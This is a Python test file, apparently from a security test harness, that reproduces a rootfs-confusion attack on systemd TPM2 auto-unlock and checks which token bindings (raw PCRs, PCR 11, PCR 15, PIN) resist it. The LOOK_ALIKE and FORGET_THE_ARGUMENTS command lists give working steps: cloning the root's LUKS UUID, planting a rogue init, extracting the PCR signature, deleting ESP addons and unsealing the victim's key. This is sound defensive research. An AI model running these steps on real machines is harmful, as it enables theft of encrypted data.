"""The victim's own boot chain opens a look-alike of its root, and whoever made that asks the TPM for the real key.

One root has a token for each way to bind it, so that one start of the look-alike tells which of them keep the key.
"""

import pytest

from harness.api import TPM_PIN, CryptenrollPin, Deadline, Enrolment, Sealed, Unlock
from harness.api.attack import QUICK_PBKDF, Attacker, ConsoleShell, Grant, canary_in

TOKENS = (
    CryptenrollPin(signed_pcr_ids=(11,), name="signed-pcr11"),
    CryptenrollPin(initrd_pcr_ids=(11,), name="pcr11"),
    CryptenrollPin((0, 2, 3, 5, 7), name="raw-pcrs"),
    CryptenrollPin(initrd_pcr_ids=(15,), measures=True, name="pcr15"),
    CryptenrollPin((7,), asks_pin=True, name="pin"),
)
"""In the order of their numbers in the header."""

EACH_WAY = Enrolment("root-bound-each-way", TOKENS)

THIEFS_PASSPHRASE = "look-alike"

REFUSAL = "Failed to unseal secret using TPM2"
"""What systemd's token plugin says when the TPM does not give the key."""

LOOK_ALIKE = (
    "uuid=$(cryptsetup luksUUID /dev/vda4)"
    " && cryptsetup luksUUID -q --uuid $(cat /proc/sys/kernel/random/uuid) /dev/vda4"
    f" && cryptsetup luksFormat -q --uuid $uuid {QUICK_PBKDF}"
    " --luks2-metadata-size 16k --luks2-keyslots-size 512k /dev/vda3 -",
    "cryptsetup open --key-file - /dev/vda3 look-alike",
    "mkfs.ext4 -q /dev/mapper/look-alike && mkdir /run/root && mount /dev/mapper/look-alike /run/root",
    "cd /run/root && mkdir -p dev etc mnt proc run sys tmp usr/bin usr/lib64 usr/lib/x86_64-linux-gnu/cryptsetup"
    " && ln -s bin usr/sbin && ln -s usr/bin usr/sbin usr/lib usr/lib64 . && cp /etc/os-release etc"
    " && cp /usr/bin/dash /usr/bin/cat /usr/bin/mount /usr/bin/umount /usr/sbin/cryptsetup usr/bin"
    " && ln -s dash usr/bin/init",
    "cd /run/root && libraries=/usr/lib/x86_64-linux-gnu && plugin=cryptsetup/libcryptsetup-token-systemd-tpm2.so"
    " && cp $libraries/$plugin .$libraries/cryptsetup"
    " && for part in esys mu rc tcti-device; do cp $libraries/libtss2-$part.so.0 .$libraries || exit; done"
    " && cp $libraries/libgcc_s.so.1 .$libraries"
    " && ldd usr/bin/* .$libraries/$plugin .$libraries/libtss2-*"
    " | sed -n 's,^[^/]*\\(/[^ ]*\\) (.*,\\1,p' | sort -u | xargs cp -L --parents -t . && df -h .",
    "cd /run/root && mkdir etc/systemd /run/esp && mount /dev/vda2 /run/esp"
    " && grep -ao '{\"sha256\": \\[{[^}]*}]}' /run/esp/EFI/BOOT/BOOTX64.EFI | tee etc/systemd/tpm2-pcr-signature.json"
    " && grep -q sig etc/systemd/tpm2-pcr-signature.json",
    "umount /run/root /run/esp && cryptsetup close look-alike && sync",
)
"""The victim's root keeps its place under another UUID. A small root of the thief's, under the old one, takes that of
/boot, which a UKI does not need: so nothing changes in the disk's partition table, which the firmware measures. It has
the owner's signature over PCR 11 as well: that is in the UKI, for everybody to read."""

FORGET_THE_ARGUMENTS = "mount /dev/vda2 /run/esp && rm -rv /run/esp/EFI/BOOT/*.extra.d && umount /run/esp"


def ask_the_tpm(console: ConsoleShell, token: int, pin: str = "") -> str:
    """Have the rogue init open the victim's root by this token of its header, and read; returns all that was said."""
    typed = f"echo {pin} | " if pin else ""
    opened = f"{typed}cryptsetup open --token-only --token-id {token} /dev/nvme0n1p4 victim"
    told = "mount -o ro /dev/mapper/victim /mnt && cat /mnt/unlock-lab-canary"
    closed = "umount /mnt && cryptsetup close victim"
    # No udev runs, so nobody but device-mapper itself makes the node.
    command = f"export DM_DISABLE_UDEV=1; {opened} && {told} && {closed}"
    return console.run(command, Deadline.after(240), check=False)


def start_look_alike(console: ConsoleShell) -> None:
    """Type the thief's passphrase where the victim's initrd asks for that of root; it then starts the thief's shell."""
    console.wait_for(r"Please enter passphrase for disk [^\r\n]*:", Deadline.after(240))
    console.send_line(THIEFS_PASSPHRASE)
    console.wait_for("\n# ", Deadline.after(240))
    console.run(
        "cd /sys/class/tpm/tpm0/pcr-sha256; for pcr in 7 11 12 15; do echo $pcr $(cat $pcr); done", Deadline.after(60)
    )


def start_from_a_look_alike(sealed: Sealed, attacker: Attacker, *further: str) -> set[str]:
    """Put the look-alike in the place of the root, start the machine, and try each token; says which of them fell.

    Args:
        sealed: The victim.
        attacker: Who does it.
        *further: What else is done to the disk.
    """
    disk = attacker.disk()
    with attacker.boot_live_system(disk=disk) as system:
        for command in (*LOOK_ALIKE, *further):
            system.run(command, 120, stdin=THIEFS_PASSPHRASE.encode())
    with attacker.console(disk=disk) as console:
        start_look_alike(console)
        said = {pin.name: ask_the_tpm(console, token, "0000" * pin.asks_pin) for token, pin in enumerate(TOKENS)}
        by_the_right_pin = ask_the_tpm(console, [pin.asks_pin for pin in TOKENS].index(True), TPM_PIN)
    assert canary_in(by_the_right_pin) == sealed.canary, "the right PIN does not open it either"
    loot = {
        name: attacker.submit(canary_in(text), guard=f"root-{name}", evidence=console.evidence)
        for name, text in said.items()
    }
    fell = {name for name, printed in loot.items() if printed.extracted}
    assert {name for name, text in said.items() if REFUSAL in text} == said.keys() - fell, "some failed otherwise"
    return fell


@pytest.mark.policy(EACH_WAY)
@pytest.mark.image("debian-13-root")
def test_the_signature_of_the_initrds_phase_opens_root(sealed: Sealed) -> None:
    """The control of what follows: the first token, bound to a signature over PCR 11, opens root by itself.

    Those of the others: `test_raw_pcr_11_asks_after_a_kernel_update` begins with a raw PCR 11 that opens; PCR 15 and
    PIN open below, where what guards them is taken away, or known. Source: systemd-measure(1); ukify(1), ``--phases=``.
    """
    outcome = sealed.boot()
    assert outcome.unlock is Unlock.AUTO
    assert outcome.token == [pin.name for pin in TOKENS].index("signed-pcr11")


@pytest.mark.policy(EACH_WAY)
@pytest.mark.image("debian-13-root")
@pytest.mark.attack(Grant.MACHINE)
def test_rootfs_confusion(sealed: Sealed, attacker: Attacker) -> None:
    """The root is replaced by a look-alike with the same UUID, which the genuine boot chain opens and starts.

    Firmware, Secure Boot, boot image and command line are the victim's own, so that PCRs 0 to 9 and 12 are what they
    should be. The initrd finds no token that fits, asks, and takes the thief's passphrase for the thief's volume. Its
    init then has the TPM unseal the victim's tokens, from the header that is still on the disk.

    Granted: the machine. Extracted from a seal to raw PCRs. Cures: a PIN; PCR 11 of the initrd's phase, signed or not:
    that phase was left before that init was started; PCR 15, where the initrd measures the key of the volume that it
    opens, whichever that is (``tpm2-measure-pcr=yes``).
    Seen: it measures once the mapping is there, and before the unit ends that the mount of root waits for. PCR 11 then
    has "leave-initrd" too, for which there is no signature ("No such device or address"); the others the TPM refuses.
    Under GRUB and initramfs-tools no token of systemd's opens the root, so that PCR 15 there is shown with another
    volume (`test_state_partition_swap`).
    Source: oddlama, "Bypassing disk encryption on systems with automatic TPM2 unlock"; systemd#42748.
    """
    assert start_from_a_look_alike(sealed, attacker) == {"raw-pcrs"}


@pytest.mark.policy(EACH_WAY)
@pytest.mark.image("debian-13-root")
@pytest.mark.attack(Grant.MACHINE)
def test_rootfs_confusion_without_measuring(sealed: Sealed, attacker: Attacker) -> None:
    """The cure by PCR 15 hangs on an option of the initrd; who takes that away has it measure nothing, and unseals.

    ``tpm2-measure-pcr=yes`` is on the command line here, in an unsigned addon on the ESP, as it is in a boot loader's
    entry elsewhere. The thief deletes it. Seen: PCR 12 is empty then, and PCR 15 stays so.

    Granted: the machine. Extracted from a seal to an empty PCR 15 as well. Cures: bind PCR 12 beside it, or have the
    option in the image that PCR 4 or a signature vouches for (neither is shown here); or PCR 11, or a PIN, as above.
    Source: crypttab(5), ``tpm2-measure-pcr=``; systemd-stub(7), "Companion files".
    """
    assert start_from_a_look_alike(sealed, attacker, FORGET_THE_ARGUMENTS) == {"raw-pcrs", "pcr15"}
